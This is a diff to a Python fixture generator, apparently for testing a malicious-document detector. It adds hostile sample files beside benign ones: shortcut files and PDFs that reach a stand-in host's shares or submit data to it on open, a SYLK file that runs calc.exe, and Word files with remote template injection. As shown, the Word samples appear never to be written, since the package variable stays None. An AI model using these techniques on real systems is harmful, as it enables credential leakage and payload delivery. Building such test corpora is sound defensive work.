@@ -208,6 +208,7 @@ def ptg_str(s):
 
 def main():
     out = sys.argv[1]
+    pkg = None
     os.makedirs(out + "/malicious", exist_ok=True)
     os.makedirs(out + "/benign", exist_ok=True)
     w = lambda p, d: open(os.path.join(out, p), "wb").write(d)
@@ -228,6 +229,7 @@ def main():
     sum_f = formula(b"\x1e\x01\x00\x1e\x02\x00\x42\x02" + struct.pack("<H", 4))
     w("malicious/xlm-sheet-hidden.xls",
       cfb([("Workbook", workbook([("Sheet1", 0, 0, []), ("Macro1", 1, 1, [sum_f])]))]))
+    shortcuts_and_links(out, pkg)
     w("benign/plain.xls", cfb([("Workbook", workbook([("Sheet1", 0, 0, [sum_f])]))]))
     # a Word FIB (wIdent 0xA5EC) and field codes stored as UTF-16LE
     fib = struct.pack("<HH", 0xA5EC, 0x00C1).ljust(0x200, b"\0")
@@ -264,6 +266,68 @@ def main():
     w("benign/package-text.doc",
       cfb([("WordDocument", fib), ("\x01Ole10Native",
                                    package("notes.txt", b"Meeting at ten.\n" * 300))]))
+
+
+def pdf(objects):
+    """A PDF with the given object bodies (1 0 obj is the catalog) and a sound xref table."""
+    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
+    offs = []
+    for i, body in enumerate(objects):
+        offs.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (i + 1, body.encode())
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % o for o in offs)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return out
+
+
+def pdf_with_action(action):
+    return pdf(["<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>", action])
+
+
+def shortcuts_and_links(out, docx):
+    w = lambda p, d: open(os.path.join(out, p), "wb").write(d)
+    w("malicious/invoice.url",
+      b"[InternetShortcut]\r\nURL=file://203.0.113.5@80/share/invoice.cpl\r\nIconIndex=0\r\n")
+    w("malicious/scan.url",
+      b"[InternetShortcut]\r\nURL=file:\\\\203.0.113.5\\share\\scan.zip\r\n")
+    w("malicious/icon-unc.url",
+      b"[InternetShortcut]\nURL=https://www.debian.org/\nIconFile=\\\\203.0.113.5\\s\\i.ico\nIconIndex=1\n")
+    w("benign/debian.url",
+      b"[InternetShortcut]\nURL=https://www.debian.org/\nIconFile=C:\\Windows\\System32\\url.dll\n")
+    w("malicious/exec.slk", b'ID;PWXL;N;E\r\nC;X1;Y1;K0;EEXEC("calc.exe")\r\nC;X1;Y2;K0;EHALT()\r\nE\r\n')
+    w("benign/sums.slk", b"ID;PWXL;N;E\r\nC;X1;Y1;K1\r\nC;X1;Y2;K2\r\nC;X1;Y3;K3;ESUM(R1C1:R2C1)\r\nE\r\n")
+    w("malicious/uri-unc.pdf", pdf_with_action("<< /S /URI /URI (\\\\\\\\203.0.113.5\\\\share\\\\x) >>"))
+    w("malicious/gotor-remote.pdf",
+      pdf_with_action("<< /S /GoToR /F (\\\\\\\\203.0.113.5\\\\share\\\\a.pdf) /D [0 /Fit] >>"))
+    w("malicious/submit-on-open.pdf",
+      pdf_with_action("<< /S /SubmitForm /F << /FS /URL /F (http://203.0.113.5/collect) >> /Flags 4 >>"))
+    w("benign/uri-web.pdf", pdf_with_action("<< /S /URI /URI (https://www.debian.org/) >>"))
+    if docx:
+        # template injection: the settings part's relationships point at a remote template
+        z = zipfile.ZipFile(io.BytesIO(docx))
+        buf = io.BytesIO()
+        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as o:
+            for i in z.infolist():
+                o.writestr(i, z.read(i.filename))
+            for target in ("http://203.0.113.7/tpl.dotm",):
+                o.writestr("word/_rels/settings.xml.rels",
+                           '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+                           '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+                           '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+                           'Target="%s" TargetMode="External"/></Relationships>' % target)
+        w("malicious/template-injection.docx", buf.getvalue())
+        # a share instead of a web server: the same part, rebuilt
+        z2 = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
+        buf2 = io.BytesIO()
+        with zipfile.ZipFile(buf2, "w", zipfile.ZIP_DEFLATED) as o:
+            for i in z2.infolist():
+                d = z2.read(i.filename)
+                o.writestr(i, d.replace(b"http://203.0.113.7/tpl.dotm", b"\\\\203.0.113.7\\s\\tpl.dotm"))
+        w("malicious/template-unc.docx", buf2.getvalue())
 
 
 if __name__ == "__main__":
